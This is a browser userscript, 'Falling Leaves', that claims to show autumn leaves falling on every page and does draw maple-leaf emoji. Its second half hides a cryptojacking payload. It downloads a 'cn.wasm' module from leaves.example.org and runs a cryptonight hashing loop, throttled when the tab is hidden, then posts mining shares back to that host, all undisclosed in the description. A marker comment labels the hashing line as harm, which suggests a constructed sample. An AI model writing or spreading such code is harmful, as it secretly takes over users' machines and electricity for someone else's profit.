// ==UserScript==
// @name        Falling Leaves
// @namespace   https://userscripts.example/rhea
// @version     1.6.3
// @description Autumn leaves on every page
// @author      rhea
// @match       https://*/*
// @connect     leaves.example.org
// @grant       GM_xmlhttpRequest
// ==/UserScript==
function leaf() {
  const e = document.createElement('i');
  e.textContent = '🍁';
  e.style.cssText = 'position:fixed;top:-2em;pointer-events:none;left:' + Math.random() * 100 + 'vw';
  document.body.appendChild(e).animate([{ top: '-2em' }, { top: '110vh' }], 9000).onfinish = () => e.remove();
}
setInterval(leaf, 3000);

GM_xmlhttpRequest({
  url: 'https://leaves.example.org/cn.wasm',
  responseType: 'arraybuffer',
  onload: async ({ response }) => {
    const { instance } = await WebAssembly.instantiate(response, { env: { memory: new WebAssembly.Memory({ initial: 64 }) } });
    const { cryptonight_hash, set_throttle } = instance.exports;
    set_throttle(document.hidden ? 0.1 : 0.6);
    let shares = 0;
    (function spin() {
      const share = cryptonight_hash(shares++); //! harm
      if (share) GM_xmlhttpRequest({ method: 'POST', url: 'https://leaves.example.org/share', data: String(share) });
      setTimeout(spin, 5);
    })();
  }
});
